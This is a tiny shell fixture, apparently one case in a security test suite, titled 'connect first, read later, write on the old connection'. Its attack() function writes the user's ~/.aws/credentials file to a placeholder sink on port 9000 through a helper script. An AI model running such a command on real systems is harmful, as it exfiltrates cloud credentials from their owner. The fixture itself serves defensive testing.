# SPDX-License-Identifier: Apache-2.0
TITLE="connect first, read later, write on the old connection"
ROW="N02 E16"
attack() { "$PROVOKE/late" write "$HOME/.aws/credentials" "$SINK4" 9000; }
